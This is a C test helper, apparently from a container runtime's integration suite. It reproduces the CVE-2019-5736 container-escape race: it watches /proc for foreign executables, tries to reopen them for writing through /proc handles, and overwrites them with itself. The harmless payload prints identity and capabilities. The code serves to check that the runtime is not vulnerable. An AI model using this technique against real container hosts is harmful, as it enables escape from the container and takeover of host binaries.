/*
 * exec-racer: the CVE-2019-5736 pattern against hull's execs, run as root in an unprivileged
 * container (test/integration/exec-attacks.test.ts builds it with the host's gcc -static).
 *
 *   exec-racer LOG KNOWN...   watch /proc for a process whose /proc/<pid>/exe is none of the KNOWN
 *                             files (the image's programs); open that link O_PATH, then keep trying
 *                             to reopen it for writing through /proc/self/fd and to open
 *                             /proc/<pid>/exe for writing directly. On a writable handle, overwrite
 *                             the file with this program. Every finding is a line in LOG.
 *   exec-racer                (no arguments: run as some other program's replacement) print what
 *                             this process is, as the payload of an overwritten program would.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdarg.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 256

struct held {
  int fd, pid, last_errno, done;
  dev_t dev;
  ino_t ino;
  char target[256];
};

static FILE *logf;
static struct held held[MAX_HELD];
static int nheld;
static struct stat known[16];
static int nknown;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  vfprintf(logf, fmt, ap);
  va_end(ap);
  fputc('\n', logf);
  fflush(logf);
}

static int payload(void) {
  char line[256], mnt[64] = "?";
  FILE *f = fopen("/proc/self/status", "r");
  ssize_t n = readlink("/proc/self/ns/mnt", mnt, sizeof mnt - 1);
  if (n > 0) mnt[n] = 0;
  printf("hull-racer-payload uid=%d mntns=%s", (int)getuid(), mnt);
  while (f && fgets(line, sizeof line, f))
    if (strncmp(line, "CapEff:", 7) == 0) printf(" %s", line);
  printf("\n");
  fprintf(stderr, "hull-racer-payload ran\n");
  return 0;
}

static int same(const struct stat *a, const struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }

/* overwrite replaces the file open for writing on `w` with this program. */
static void overwrite(int w, const char *what) {
  char buf[65536];
  int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  ssize_t n, total = 0;
  if (ftruncate(w, 0) < 0) say("TRUNCATE-FAILED %s: %s", what, strerror(errno));
  while (self >= 0 && (n = read(self, buf, sizeof buf)) > 0)
    if (write(w, buf, n) == n) total += n;
  say("WROTE %zd bytes into %s", total, what);
  if (self >= 0) close(self);
}

int main(int argc, char **argv) {
  if (argc < 2) return payload();
  logf = fopen(argv[1], "a");
  if (!logf) return 1;
  for (int i = 2; i < argc && nknown < 16; i++)
    if (stat(argv[i], &known[nknown]) == 0) nknown++;
  if (stat("/proc/self/exe", &known[nknown]) == 0) nknown++;
  say("ready pid %d, %d known programs", (int)getpid(), nknown);
  pid_t self = getpid();
  for (;;) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      char path[64], target[256];
      struct stat st;
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      int seen = fstat(fd, &st) < 0;
      for (int k = 0; !seen && k < nknown; k++) seen = same(&st, &known[k]);
      for (int k = 0; !seen && k < nheld; k++) seen = held[k].dev == st.st_dev && held[k].ino == st.st_ino;
      if (seen || nheld == MAX_HELD) {
        close(fd);
        continue;
      }
      ssize_t n = readlink(path, target, sizeof target - 1);
      target[n > 0 ? n : 0] = 0;
      struct held *h = &held[nheld++];
      *h = (struct held){ .fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino };
      strcpy(h->target, target);
      say("caught pid %d exe %s", pid, target);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        say("WRITABLE %s through /proc/%d/exe", target, pid);
        overwrite(w, target);
        close(w);
        h->done = 1;
      } else {
        say("direct open of /proc/%d/exe for writing: %s", pid, strerror(errno));
      }
    }
    if (d) closedir(d);
    for (int k = 0; k < nheld; k++) {
      struct held *h = &held[k];
      char path[64];
      if (h->done) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        say("WRITABLE %s through its O_PATH handle", h->target);
        overwrite(w, h->target);
        close(w);
        h->done = 1;
      } else if (errno != h->last_errno) {
        h->last_errno = errno;
        say("reopen of %s for writing: %s", h->target, strerror(errno));
      }
    }
  }
}
